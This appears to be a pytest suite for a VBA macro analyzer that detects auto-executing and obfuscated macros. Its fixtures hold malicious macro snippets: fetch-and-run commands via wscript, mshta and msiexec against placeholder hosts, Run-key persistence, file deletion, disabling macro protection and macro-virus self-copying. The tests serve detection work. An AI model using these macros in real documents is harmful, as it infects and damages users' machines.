"""VBA source files: recognised by what only VBA has, read alone or as a part of their project."""

import pytest

from sekisho.analyzers.vba import HEAD, analyze, is_vba
from sekisho.model.artifact import Artifact, Feature
from sekisho.model.errors import LimitError, MalformedError
from sekisho.model.url import Url


def read(source, name="a.bas", relation="input"):
    features, children, error = {}, [], None
    try:
        for one in analyze(Artifact(name, source.encode(), name, relation=relation)):
            if isinstance(one, Feature):
                features.setdefault(one.name, []).append(one.value)
            else:
                children.append(one)
    except (MalformedError, LimitError) as raised:
        error = raised
    return features, children, error


SOURCE = r"""Attribute VB_Name = "Loader"
Sub AutoOpen()
    p = Environ("TEMP") & "\a.vbs"
    Open p For Output As #1
    Print #1, "MsgBox ""written"" "
    Close #1
    Shell "wscr" & "ipt " & p & " http://192.0.2.7/" & Chr(97), 0
End Sub
"""


@pytest.mark.parametrize(
    ("name", "data", "expected"),
    [
        ("x", b'Attribute VB_Name = "A"\r\nSub x()\r\nEnd Sub', True),
        ("x.txt", b"Dim a As String\nSub x()\nEnd Sub", True),
        ("x.txt", b"Private Sub Workbook_Open()\nEnd Sub", True),
        ("x.bas", b"Sub x()\nEnd Sub", True),
        ("x.vbs", b"Sub x()\nEnd Sub", False),
        ("x.txt", b"Sub x()\nEnd Sub", False),
        ("x.html", b"<html><script>Sub AutoOpen()\nEnd Sub</script>", False),
        ("x.bas", b"10 PRINT", False),
        ("x", b"Attribute VB_Name\0", False),
        ("x", 'Attribute VB_Name = "A"'.encode("utf-16"), True),
        ("x", b"VBA MACRO a.bas \nin file: x - OLE stream: 'VBA/a'\n", True),
    ],
)
def test_recognised(name, data, expected):
    assert is_vba(Artifact(name, data, name)) is expected


def test_a_bare_file_is_assessed():
    features, children, error = read(SOURCE)
    assert features["vba.module"] == ["Loader"]
    assert features["macro.grade"] == ["obfuscated_exec"]
    assert features["vba.autoexec"] == ["AutoOpen"]
    assert features["vba.commands"] == ["wscript %TEMP%\\a.vbs http://192.0.2.7/a"]
    assert features["vba.calls"] == ["writes %TEMP%\\a.vbs", f"starts {features['vba.commands'][0]}"]
    assert "Shell" in features["vba.keywords"]
    assert 'Shell("' in features["vba.unfolded"][0] or 'shell("' in features["vba.unfolded"][0]
    url = features["url"][0]
    assert isinstance(url, Url)
    assert (url.canonical, url.where) == ("http://192.0.2.7/a", "macro")
    assert "char-code" in url.hidden_by
    assert [(child.name, child.kind, child.relation, child.data) for child in children] == [
        ("Shell", "cmd", "decoded", b"wscript %TEMP%\\a.vbs http://192.0.2.7/a"),
        ("a.vbs", "", "decoded", b'MsgBox "written" \r\n'),
    ]
    assert error is None


def test_a_module_of_a_project_only_says_what_it_holds():
    features, children, _ = read(SOURCE, relation="macro")
    assert set(features) == {"vba.module", "vba.autoexec", "vba.keywords"}
    assert children == []


def test_a_text_report_is_read_module_by_module():
    line = "- " * 39
    text = (
        f"FILE: a.doc\nType: OLE\n{'-' * 79}\nVBA MACRO ThisDocument.cls \nin file: a.doc - OLE stream: 'x'\n{line}\n"
        f"Sub Document_Open()\n  Helper\nEnd Sub\n{'-' * 79}\nVBA MACRO m.bas \nin file: a.doc - OLE stream: 'y'\n{line}\n"
        f'Sub Helper()\n  Shell "tool.exe"\nEnd Sub\n+{"-" * 10}+{"-" * 20}+{"-" * 45}+\n|Type|\n'
    )
    features, _, _ = read(text, "report.txt")
    assert features["macro.grade"] == ["auto_exec"]
    assert features["vba.commands"] == ["tool.exe"]


def test_limits_are_named():
    features, _, error = read('Sub AutoOpen()\nx = "a"\nDo\nx = x & "b"\nShell "t.exe"\nLoop\nEnd Sub')
    assert features["macro.grade"] == ["auto_exec"]
    assert isinstance(error, LimitError)
    _, _, error = read('Attribute VB_Name = "A"\r\n' + "' x\n" * 200_000)
    assert isinstance(error, LimitError)
    assert is_vba(Artifact("a.bas", b"Sub x()\nEnd Sub" + bytes([32]) * HEAD, "a.bas"))


@pytest.mark.parametrize("name", ["a.bas", "a.cls", "a.frm", "a.vba"])
def test_bare_files_are_graded_whatever_they_are_called(name):
    source = b'Sub Auto_Open()\r\nShell "mshta http://192.0.2.1/a", 0\r\nEnd Sub\r\n'
    assert is_vba(Artifact(name, source, name))
    features = [one for one in analyze(Artifact(name, source, name)) if isinstance(one, Feature)]
    assert [one.value for one in features if one.name == "macro.grade"] == ["auto_exec"]


def test_modules_one_after_another_and_texts_of_forms_in_a_report():
    joined = b'   Attribute VB_Name = "AutoOpen"\r\n   Public Sub MAIN()\r\n   Shell "cmd /c x"\r\n   End Sub\r\n   Attribute VB_Name = "Other"\r\n   Sub b()\r\n   End Sub\r\n'
    grades = [
        one.value for one in analyze(Artifact("a.bas", joined, "a.bas")) if getattr(one, "name", "") == "macro.grade"
    ]
    assert grades == ["auto_exec"]
    line = "- " * 39 + "-"
    report = (
        f"VBA MACRO ThisDocument.cls \nin file: a - OLE stream: 'x'\n{line}\nSub document_open()\nShell UserForm1.TextBox1.Text\nEnd Sub\n"
        + "-" * 79
        + f"\nVBA FORM Variable \"b'TextBox1'\" IN 'a' - OLE stream: 'Macros/UserForm1'\n{line}\nb'msiexec /q /i http://192.0.2.1/a'\n"
    )
    commands = [
        one.value
        for one in analyze(Artifact("a.cls", report.encode(), "a.cls"))
        if getattr(one, "name", "") == "vba.commands"
    ]
    assert commands == ["msiexec /q /i http://192.0.2.1/a"]


def told(source, name="a.bas"):
    assert is_vba(Artifact(name, source.encode(), name))
    return [
        one.value for one in analyze(Artifact(name, source.encode(), name)) if getattr(one, "name", "") == "macro.grade"
    ]


def reported(title, text):
    return f"VBA MACRO {title} \nin file: a - OLE stream: ''\n{'- ' * 39}\n{text}\n+----------+--------------------+---------------\n|Type|\n"


def test_macro_sheets_and_nameless_modules_of_a_report():
    sheet = '\' 0018     31 LABEL : Cell Value, String Constant - Auto_Open len=7\n\' \n0:,A1,EXEC("msiexec /i http://192.0.2.1/u /q"),""\n\' \n0:,A2,HALT(),""\n'
    assert told(reported("xlm_macro.txt", sheet)) == ["auto_exec"]
    assert told(reported("xlm_macro.txt", sheet.replace("EXEC", "ALERT"))) == ["inert"]
    text = 'Set w = CreateObject("Word.Application")\nw.NormalTemplate.VBProject.VBComponents.Import ("C:\\a.dll")'
    assert told(reported("a.sample", text)) == ["auto_exec"]


def test_code_kept_as_remarks():
    source = 'Rem Attribute VBA_ModuleType=VBADocumentModule\nSub ThisDocument\nRem Sub Document_Open()\nRem Shell "mshta http://192.0.2.1/a", 0\nRem End Sub\nEnd Sub\n'
    assert told(source) == ["auto_exec"]
    assert told("Rem Attribute VBA_ModuleType=VBAModule\nOption VBASupport 1\nSub a()\nRem b\nEnd Sub\n") == ["inert"]


def test_macros_kept_under_the_names_of_other_languages():
    source = b'Sub AutoOpen()\r\nShell "mshta http://192.0.2.1/a"\r\nEnd Sub\r\n'
    assert is_vba(Artifact("a.vb", source, "a.vb"))
    assert not is_vba(Artifact("a.vb", b"Imports System\r\n" + source, "a.vb"))
    assert not is_vba(Artifact("a.vbs", source.replace(b"AutoOpen", b"Start"), "a.vbs"))


def test_indented_modules_and_bare_statements():
    main = '   Attribute VB_Name = "autoopen"\n\n   Public Sub MAIN()\n   WordBasic.Kill "*.*"\n   End Sub\n'
    assert told(main) == ["auto_exec"]
    bare = '   Attribute VB_Name = "Module1"\n   Set w = CreateObject("WScript.Shell")\n   w.RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\a", "b"\n'
    assert told(bare) == ["auto_exec"]
    assert told('   Attribute VB_Name = "Module1"\n   Dim a\n   a = 1\n') == ["inert"]
    settings = 'Sub AutoOpen()\nSystem.PrivateProfileString("C:\\Autorun.inf", "Autorun", "Open") = "x"\nEnd Sub\n'
    assert told(settings) == ["auto_exec"]
    assert told(settings.replace("Autorun.inf", "letters.ini")) == ["auto_run"]
    guard = 'Sub AutoExec()\nSystem.ProfileString("Options", "EnableMacroVirusProtection") = "0"\nEnd Sub\n'
    assert told(guard) == ["auto_exec"]
    assert told(guard.replace("EnableMacroVirusProtection", "Colour")) == ["auto_run"]
    german = 'Attribute VB_Name = "AutoOpen"\nPublic Sub MAIN()\nMakroKopieren DateiName$() + ":AutoOpen", "Global:AutoOpen", 1\nEnd Sub\n'
    assert told(german) == ["auto_exec"]
